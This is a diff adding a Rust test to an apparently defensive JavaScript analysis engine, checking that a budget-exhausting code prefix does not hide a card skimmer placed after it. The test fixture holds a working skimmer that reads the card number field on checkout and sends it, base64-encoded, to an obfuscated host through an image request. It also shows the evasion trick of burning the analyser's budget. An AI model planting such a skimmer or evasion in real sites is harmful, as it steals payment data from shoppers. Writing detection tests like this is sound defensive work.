@@ -222,3 +222,35 @@ fn nested_calls_on_unknown_receivers_do_not_spend_the_budget_of_the_skimmer_afte
         exfil.message
     );
 }
+
+/// A prefix that spends the whole evaluation budget on purpose (a loop called from 400
+/// places) must not leave the skimmer after it unread: its selectors and its destination are
+/// still evaluated, and the partial analysis is still reported.
+#[test]
+fn a_prefix_that_burns_the_budget_does_not_hide_the_skimmer_after_it() {
+    let mut code =
+        String::from("function spin(n){var s=0;for(var i=0;i<1000000;i++){s+=i*n}return s}\n");
+    for i in 0..400 {
+        code.push_str(&format!("track('e{i}', spin({i}));\n"));
+    }
+    code.push_str(
+        "document.querySelector('#checkout').addEventListener('submit', function () {\n\
+           var card = document.getElementById('cc-number').value;\n\
+           var host = ['https://', 'cdn-analytic', 's-stats.com', '/c.gif?d='].join('');\n\
+           new Image().src = host + btoa(card);\n\
+         });\n",
+    );
+    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
+    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
+    assert!(rules.contains(&"analysis-budget-exceeded"), "{rules:?}");
+    let exfil = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "payment-data-exfiltration")
+        .unwrap_or_else(|| panic!("{rules:?}"));
+    assert!(
+        exfil.message.contains("cdn-analytics-stats.com"),
+        "{}",
+        exfil.message
+    );
+}
